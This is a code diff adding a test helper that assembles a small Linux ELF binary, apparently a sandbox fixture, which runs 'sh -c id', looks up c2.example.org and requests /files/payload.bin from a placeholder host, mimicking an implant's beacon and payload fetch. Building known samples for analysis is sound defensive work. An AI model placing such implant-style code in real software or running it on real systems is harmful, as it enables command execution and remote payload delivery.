@@ -81,3 +81,32 @@ export function typedProgram(tag = 0): Buffer {
   // A trailing tag makes distinct samples of the same program (past everything the parser reads).
   return Buffer.concat([Buffer.from(elf), Buffer.from([tag & 0xff])]);
 }
+
+/**
+ * A static x86-64 Linux program with no C library that behaves like a small implant, made for the sandbox:
+ * it forks a child that runs `sh -c id`, waits for it, asks DNS for c2.example.org (a query written to UDP
+ * port 53 of 8.8.8.8), connects to 192.0.2.10:80 and sends `GET /files/payload.bin` with that host, then
+ * exits 0. Assembled from this (gcc -nostdlib; the .text bytes below):
+ *   _start: mov eax, 57; syscall; test eax, eax; jnz 1f
+ *           push 0; push &"id"; push &"-c"; push &"sh"; mov rsi, rsp; lea rdi, "/bin/sh"; xor edx, edx
+ *           mov eax, 59; syscall; mov edi, 1; mov eax, 60; syscall
+ *   1:      wait4(-1, 0, 0, 0); r12 = socket(2, 2, 0); connect(r12, {2, 53, 8.8.8.8}, 16);
+ *           write(r12, query, 32); r12 = socket(2, 1, 0); connect(r12, {2, 80, 192.0.2.10}, 16);
+ *           write(r12, request, 57); exit(0)
+ * followed by the strings, the two sockaddr_in, the DNS query (id 0x1234, RD, one A question) and the request.
+ */
+export function implantProgram(): Buffer {
+  const text =
+    'b8390000000f0585c075396a00488d05de00000050488d05d300000050488d05c8000000504889e6488d3db500000031' +
+    'd2b83b0000000f05bf01000000b83c0000000f05bfffffffff31f631d24531d2b83d0000000f05bf02000000be020000' +
+    '0031d2b8290000000f054989c44c89e7488d3581000000ba10000000b82a0000000f054c89e7488d358b000000ba2000' +
+    '0000b8010000000f05bf02000000be0100000031d2b8290000000f054989c44c89e7488d354f000000ba10000000b82a' +
+    '0000000f054c89e7488d3569000000ba39000000b8010000000f0531ffb83c0000000f052f62696e2f7368007368002d' +
+    '63006964000f1f000200003508080808000000000000000002000050c000020a00000000000000001234010000010000' +
+    '00000000026332076578616d706c65036f72670000010001474554202f66696c65732f7061796c6f61642e62696e2048' +
+    '5454502f312e310d0a486f73743a2063322e6578616d706c652e6f72670d0a0d0a';
+  const sections = [{ name: '.text', type: 1, flags: 6, addr: 0x401000, data: Buffer.from(text, 'hex') }];
+  return Buffer.from(
+    buildElf({ bits: 64, little: true, machine: 62, type: 2, entry: 0x401000, base: 0x400000, sections }),
+  );
+}
